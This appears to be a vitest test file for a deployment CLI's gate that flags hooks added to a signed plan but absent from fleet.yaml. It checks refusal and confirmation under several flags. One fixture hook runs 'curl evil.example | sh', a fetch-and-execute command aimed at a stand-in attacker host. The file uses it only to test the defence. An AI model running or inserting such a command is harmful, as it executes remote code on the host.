import { expect, it } from 'vitest'
import { runsHereGate } from '../../../src/cli/gates/runs-here-gate.ts'
import { diagnostic, type Outcome } from '../../../src/model/diagnostic.ts'
import type { Fleet } from '../../../src/model/fleet/fleet.ts'
import type { Hook, Plan } from '../../../src/model/plan/plan-schema.ts'
import { planIdOf } from '../../../src/pipeline/plan/sign.ts'
import { changed, samplePlan, sampleSettings, sampleWave } from '../../rig/samples/plan.ts'

const gate: Hook = { on: ['before.run'], run: ['./gate.sh'], timeoutMs: 1000, onError: 'fail' }
const evil: Hook = {
  on: ['before.run'],
  run: ['sh', '-c', 'curl evil.example | sh'],
  timeoutMs: 1000,
  onError: 'ignore',
}

/** A plan with those hooks whose id is right: who changes a plan works out its id anew. */
function planWith(...hooks: readonly Hook[]): Plan {
  const plan = samplePlan({ web: changed('web') }, [sampleWave('all', ['web'])], { hooks })
  return { ...plan, planId: planIdOf(plan.body) }
}

const fleet: Outcome<Fleet> = {
  ok: true,
  diagnostics: [],
  value: {
    name: 'home-lab',
    hosts: [{ name: 'web', enabled: true, settings: sampleSettings('web') }],
    waves: [sampleWave('all', ['web'])],
    checks: {},
    hooks: [gate],
    lock: null,
  } as unknown as Fleet,
}

/** What the gate says; `answer` null: there is no terminal. */
async function asked(plan: Plan, answer: boolean | null, more: object = {}, beside: Outcome<Fleet> = fleet) {
  const questions: string[] = []
  const confirm = (question: string) => {
    questions.push(question)
    return Promise.resolve(answer === true)
  }
  const { signal } = new AbortController()
  const asking = {
    flags: { json: false, planId: null, ...more },
    ask: { possible: answer !== null, confirm },
    signal,
  }
  return { refused: await runsHereGate(plan, beside, asking), questions }
}

it('a plan that runs what fleet.yaml says asks nothing', async () => {
  expect(await asked(planWith(gate), null)).toEqual({ refused: [], questions: [] })
})

it('a hook that was added to a plan, its id worked out anew, does not run unseen', async () => {
  const { refused } = await asked(planWith(gate, evil), null)
  expect(refused).toMatchObject([{ code: 'apply/runs-here' }])
  expect(refused[0]?.detail).toContain("+ hook before.run: sh -c 'curl evil.example | sh'")
  const onTerminal = await asked(planWith(gate, evil), true)
  expect(onTerminal.refused).toEqual([])
  expect(onTerminal.questions[0]).toContain('curl evil.example')
  expect((await asked(planWith(gate, evil), false)).refused).toHaveLength(1)
})

it('a gate that was taken out of a plan is missed', async () => {
  const { refused } = await asked(planWith(), null)
  expect(refused[0]?.detail).toContain('- hook before.run: ./gate.sh')
})

it('a plan that is named by its id was reviewed as it is', async () => {
  const plan = planWith(gate, evil)
  expect((await asked(plan, null, { planId: plan.planId })).refused).toEqual([])
  expect((await asked(plan, null, { planId: planWith(gate).planId })).refused).toHaveLength(1)
})

it('--auto-approve and --json answer no such question', async () => {
  expect((await asked(planWith(evil), null, { autoApprove: true })).refused).toHaveLength(1)
  expect((await asked(planWith(evil), true, { json: true })).refused).toHaveLength(1)
})

it('without a fleet.yaml there is nothing to compare with; one that is broken approves nothing', async () => {
  const failed = (code: 'config/unreadable' | 'config/yaml'): Outcome<Fleet> => ({
    ok: false,
    diagnostics: [diagnostic(code, '', '')],
  })
  expect((await asked(planWith(evil), null, {}, failed('config/unreadable'))).refused).toEqual([])
  expect((await asked(planWith(evil), null, {}, failed('config/yaml'))).refused).toHaveLength(1)
})
